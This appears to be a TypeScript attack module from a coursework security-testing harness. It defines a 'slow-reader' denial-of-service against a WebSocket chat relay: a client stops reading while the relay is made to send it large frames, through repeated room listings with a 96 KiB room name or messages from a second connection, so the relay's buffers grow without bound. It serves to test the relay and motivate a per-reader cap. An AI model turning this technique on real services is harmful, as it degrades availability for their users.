/**
 * A stranger joins, stops reading, and has the relay send her more and more: the answers to questions of a few bytes
 * each, or what another connection of hers says. The relay hands what she does not read to the kernel until its buffers
 * are full, and keeps the rest itself, without a bound in the coursework's chat. A cap on what is kept for one reader
 * stops this: whoever does not read is disconnected. CWE-770, and CWE-405 for the answers.
 */
import { type Capabilities, defineAttack, type Tactic, type Tools } from '../../src/model/attack.js';
import { joining, listing, talking } from '../request.js';

/** A room of her own: the others need not hear it. */
const ROOM = 'elsewhere';
/** The kernel's buffers take some megabytes on both ends before the relay's have to. */
const MESSAGES = 63;
const BYTES = 96 * 1024;
const LONG = 'x'.repeat(BYTES);
/** So many are sent at a time that whoever does read keeps up. */
const AT_ONCE = 5;

interface Filling extends Tactic {
  /** Joins, stops reading, and answers with what makes the relay send her one long frame more. */
  readonly begins: (
    flooder: Capabilities['flooder'],
    tools: Tools,
  ) => Promise<(seq: number) => Promise<void>>;
}

// Compressed, a long run of one letter would never fill a buffer.
const plainly = ({ connect }: Capabilities['flooder']) => connect({ compression: false });

/** Sixty bytes ask for a hundred thousand, and nobody else hears anything of it. */
const LISTING: Filling = {
  id: 'list',
  does: 'asks for the rooms again and again, one of which has a long name, and reads no answer',
  // Where a long name is refused there is no long list, and nothing to be seen.
  probe: true,
  begins: async (flooder, tools) => {
    const reader = await plainly(flooder);
    reader.send(joining(LONG, 'reader'));
    await tools.settle();
    reader.stopReading();
    return async () => {
      reader.send(listing(''));
      await reader.taken();
    };
  },
};

const TALKING: Filling = {
  id: 'stop',
  does: 'stops reading while another connection of hers talks',
  begins: async (flooder, tools) => {
    const [reader, writer] = [await plainly(flooder), await plainly(flooder)];
    reader.send(joining(ROOM, 'reader'));
    writer.send(joining(ROOM, 'writer'));
    await tools.settle();
    reader.stopReading();
    return async (seq) => writer.send(talking(ROOM, 'writer', seq, tools, LONG));
  },
};

export default defineAttack<'flooder', Filling>({
  id: 'flood/slow-reader',
  title: 'A member who stops reading',
  position: 'flooder',
  property: 'availability',
  counter: 'unsent',
  needs: [],
  alarms: [],
  cwe: [405, 770],
  sources: ['CWE-770', 'CWE-405', 'ws documentation, WebSocket.bufferedAmount', 'RFC 9293 §3.8.6'],
  // A strict codec bounds names: no list is long enough there.
  tactics: ({ codec }) => (codec === 'strict' ? [TALKING] : [LISTING, TALKING]),
  adversary: (flooder, { does, begins }, tools) => ({
    begin: async () => {
      const more = await begins(flooder, tools);
      tools.did(`${does}: ${MESSAGES} times ${BYTES / 1024} KiB`);
      for (let seq = 1; seq <= MESSAGES; seq++) {
        await more(seq);
        if (seq % AT_ONCE === 0) await tools.settle();
      }
      await tools.settle();
    },
  }),
});
